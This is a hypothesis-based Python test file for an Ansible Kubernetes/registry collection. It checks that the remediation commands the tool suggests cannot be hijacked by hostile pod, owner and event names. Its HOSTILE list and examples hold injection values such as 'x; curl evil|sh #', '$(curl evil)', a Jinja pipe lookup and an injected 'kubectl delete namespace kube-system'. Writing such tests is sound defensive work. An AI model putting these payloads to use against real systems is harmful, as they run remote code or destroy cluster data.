# Copyright (c) 2026, killinit.zot contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Whatever names pods and events contain: a command that people paste consists of constants and valid names."""

from __future__ import annotations

import re
import shlex
import tempfile
import typing as t

import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ansible_collections.killinit.zot.plugins.module_utils._oci.image import (
    INDEX_TYPES,
    Entry,
    Image,
    Manifest,
    Platform,
)
from ansible_collections.killinit.zot.plugins.module_utils._oci.reference import Reference
from ansible_collections.killinit.zot.plugins.module_utils._pull_failure_info import run as entry_file
from ansible_collections.killinit.zot.plugins.module_utils._pull_failure_info.evidence import (
    FailingPods,
    RegistryAnswers,
    RepositoryAnswer,
)
from ansible_collections.killinit.zot.plugins.module_utils._registry.errors import ZotError
from ansible_collections.killinit.zot.plugins.module_utils._registry.session import open_task
from ansible_collections.killinit.zot.plugins.module_utils._registry.settings import Options
from ansible_collections.killinit.zot.tests.unit.fake_cluster import FakeCluster
from ansible_collections.killinit.zot.tests.unit.pull_scene import NAMESPACE, NOW, REGISTRY, Scene, node

Ask = t.Callable[..., RegistryAnswers]
NAME = r"[a-z0-9]([-a-z0-9.]*[a-z0-9])?"
IMAGE = r"[a-zA-Z0-9.-]+(:[0-9]+)?(/[a-z0-9]+([._-]+[a-z0-9]+)*)+(:[A-Za-z0-9_][A-Za-z0-9_.-]*|@sha256:[0-9a-f]{64})"
RESOURCE = rf"(deployment|statefulset|daemonset|pod)/{NAME}"
KEYS = {
    *("spec", "template", "containers", "initContainers", "volumes", "name", "image", "reference", "nodeSelector"),
    *("pullPolicy", "imagePullPolicy", "imagePullSecrets", "kubernetes.io/arch"),
}
ROLE = ["localhost", "--module-name=ansible.builtin.include_role", "--args=name=killinit.zot.zot_pull_secret"]
VARIABLES = (
    rf"--extra-vars=zot_pull_secret_repair=true zot_pull_secret_fail=false zot_registry={REGISTRY}"
    rf" zot_namespace={NAMESPACE} zot_pull_secret_name={NAME}"
)
HOSTILE = [
    "x; curl evil|sh #",
    "$(curl evil)",
    "`curl evil`",
    "--kubeconfig=/tmp/evil",
    "-x",
    "a b",
    "a\nkubectl delete namespace kube-system",
    "\x1b]0;evil\x07\x1b[2J",
    "\u202egnp.exe",
    "'; curl evil; '",
    '"; curl evil; "',
    "x}}}}, {name: evil",
    "{{ lookup('pipe', 'id') }}",
    "../../etc",
    "a zot_namespace=kube-system",
    "deployment",
    "on",
    "0x1f",
    "",
]
APPS = [
    "foreign",
    "malformed",
    "never",
    "nohost",
    "nosecret",
    "platform",
    "secretmissing",
    "tagmissing",
    "volume",
    "wrong",
]
hostile = (
    st.sampled_from(HOSTILE) | st.text(max_size=12) | st.from_regex(NAME, fullmatch=True).filter(lambda x: len(x) < 64)
)
usual = st.none()


def leaves(value: t.Any) -> t.Iterator[t.Any]:
    """The values of a patch, whose keys are constants."""
    if isinstance(value, dict):
        assert value.keys() <= KEYS, value
        for each in value.values():
            yield from leaves(each)
    elif isinstance(value, list):
        for each in value:
            yield from leaves(each)
    else:
        yield value


def check(command: str) -> None:
    """Take a command apart as a shell does."""
    assert command.isprintable(), command
    assert '"' not in command
    program, *words = shlex.split(command)
    if program == "ansible":
        *constant, variables, account = words
        assert constant == ROLE
        assert account == "--extra-vars=@pull-secret.yml"
        assert re.fullmatch(VARIABLES, variables), variables
        return
    assert program == "kubectl"
    assert words.pop(0) == f"--namespace={NAMESPACE}"
    verb, what, *rest = words
    if verb == "set":
        assert what == "image"
        assert re.fullmatch(RESOURCE, rest[0]), rest
        assert all(re.fullmatch(rf"{NAME}={IMAGE}", each) for each in rest[1:]), rest
    elif verb == "patch":
        *resource, option, patch = [what, *rest]
        assert option == "--patch"
        assert re.fullmatch(rf"{RESOURCE}|serviceaccount {NAME}", " ".join(resource)), resource
        assert all(
            isinstance(each, str) and re.fullmatch(rf"{NAME}|{IMAGE}|Always", each)
            for each in leaves(yaml.safe_load(patch))
        )
    elif verb == "rollout":
        assert what == "restart"
        assert re.fullmatch(RESOURCE, *rest), rest
    else:
        assert (verb, what) in (("delete", "pod"), ("describe", "pod"))
        assert rest
        assert all(re.fullmatch(NAME, each) for each in rest), rest


def altered(draw: st.DrawFn) -> Scene:
    """A captured Deployment, in which some names are hostile."""
    scene = Scene.of(draw(st.sampled_from(APPS)))

    def name(value: str) -> str:
        return draw(usual | hostile) or value if draw(st.integers(0, 2)) == 0 else value

    for pod in scene.pods:
        metadata, specification, status = pod["metadata"], pod["spec"], pod["status"]
        metadata["name"] = name(metadata["name"])
        kind = name(draw(st.sampled_from(["Deployment", "StatefulSet", "DaemonSet", "Job", "ReplicaSet", "Pod"])))
        owner = {"apiVersion": "apps/v1", "kind": kind, "name": name("owner"), "controller": True}
        metadata["ownerReferences"] = draw(st.sampled_from([metadata["ownerReferences"], [], [owner]]))
        if draw(st.booleans()):
            metadata["labels"]["pod-template-hash"] = draw(hostile)
        for container, running in zip(specification["containers"], status["containerStatuses"]):
            container["name"] = running["name"] = name(container["name"])
            container["image"] = name(container["image"])
            waiting = running["state"].get("waiting")
            if waiting:
                waiting["message"] = name(waiting.get("message") or "")
        for volume in specification.get("volumes") or []:
            volume["name"] = name(volume["name"])
        specification["imagePullSecrets"] = [
            {"name": name(each["name"])} for each in specification.get("imagePullSecrets") or []
        ]
        specification["serviceAccountName"] = name(specification.get("serviceAccountName") or "default")
        specification["nodeName"] = name(specification["nodeName"])
    for event in scene.events:
        event["message"] = name(event.get("message") or "")
        event["lastTimestamp"] = name(event.get("lastTimestamp") or "") or None
    scene.nodes = [node(), node("other", name("arm64"))]
    for each in scene.service_accounts:
        t.cast("dict[str, t.Any]", each)["imagePullSecrets"] = [{"name": name("zot-pull-secret")}]
    return scene


def answers(draw: st.DrawFn) -> Ask:
    """A registry that has the images, or not, or refuses the accounts."""
    error, exists = draw(st.sampled_from(["", "unauthorized", "denied", "quota_exceeded"])), draw(st.booleans())
    platforms = [Platform("linux", draw(hostile)), Platform("linux", "amd64")]
    entries = tuple(Entry(f"sha256:{'2' * 64}", each) for each in platforms)
    index = Manifest(f"sha256:{'1' * 64}", next(iter(INDEX_TYPES)), {}, entries=entries)
    tags = draw(st.sampled_from([None, [], ["1", "x-y_z.2"]]))

    def ask(_task: t.Any, _options: t.Any, failing: FailingPods) -> RegistryAnswers:
        images = failing.images()
        known = {each: Image(each, index if exists else None) for found in images.values() for each in found}
        operator = [RepositoryAnswer(each, images=known, tags=tags, listed=True) for each in images]
        near = [Reference(REGISTRY, each, tag) for each in [*images, "openclaw/openclaw"] for tag in ("1", "x-y_z.2")]
        refusal = ZotError(error, "refused") if error else None
        pods = [RepositoryAnswer(repository, secret, refusal) for repository, secret, _entry in failing.users()]
        return RegistryAnswers(operator, pods, {each: Image(each, index) for each in near}, ["openclaw/openclaw"])

    return ask


@st.composite
def scenes(draw: st.DrawFn) -> tuple[Scene, Ask]:
    return altered(draw), answers(draw)


def hostile_owner(kind: str, name: str) -> tuple[Scene, Ask]:
    return Scene.of("wrong").owner(kind, name), lambda *_arguments: RegistryAnswers()


def without_account(service_account: str) -> tuple[Scene, Ask]:
    """A pod that names no pull secret, of a service account of this name."""
    scene = Scene.of("nosecret")
    scene.pod["spec"]["serviceAccountName"] = service_account
    return scene, lambda *_arguments: RegistryAnswers(
        pods=[RepositoryAnswer("openclaw/openclaw", "", ZotError("unauthorized", "refused"))]
    )


def explained(scene: Scene, ask: Ask) -> dict[str, t.Any]:
    params = {
        "registry": REGISTRY,
        "namespace": NAMESPACE,
        "label_selectors": [],
        "pull_timeout": 20,
        "pull_secret": "zot-pull-secret",
        "allow_empty": False,
    }
    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder, open_task(folder) as task:
        patch.setattr(entry_file, "query_registry", ask)
        patch.setattr(FakeCluster, "now", lambda _self: NOW)
        return entry_file.run(scene.cluster(), task, Options(REGISTRY), entry_file.PodScope.of(params))


@settings(max_examples=3 * settings().max_examples)
@given(scenes())
@example(hostile_owner("x; curl evil|sh #", "x"))
@example(hostile_owner("Deployment", "x; curl evil|sh #"))
@example(hostile_owner("Deployment", "\x1b[2J\x1b]0;evil\x07"))
@example(hostile_owner("Deployment", "a\nb"))
@example(hostile_owner("Deployment", "$(curl evil)"))
@example(hostile_owner("Deployment", "--all"))
@example(without_account("default; curl evil|sh #"))
def test_commands(found: tuple[Scene, Ask]) -> None:
    scene, ask = found
    result = explained(scene, ask)
    for finding in result["findings"]:
        for command in finding["commands"]:
            check(command)
        texts = [finding[each] for each in ("message", "remedy", "evidence", "image", "resource")]
        assert all(text.isprintable() for text in [*texts, *finding["containers"], *finding["pod_names"]])
    assert all(line.isprintable() for line in [*result["summary"], *result["problems"]])


@pytest.mark.parametrize(("kind", "name"), [("x; curl evil|sh #", "x"), ("Deployment", "x; curl evil|sh #")])
def test_the_finding_says_what_is_left_out(kind: str, name: str) -> None:
    """The pods can be deleted by their own names; the owner is in no command."""
    scene, ask = hostile_owner(kind, name)
    (finding,) = explained(scene, ask)["findings"]
    assert "curl evil" in finding["remedy"]
    assert not [each for each in finding["commands"] if "curl" in each]
    assert finding["commands"][-1].startswith("kubectl --namespace=openclaw delete pod wrong-")
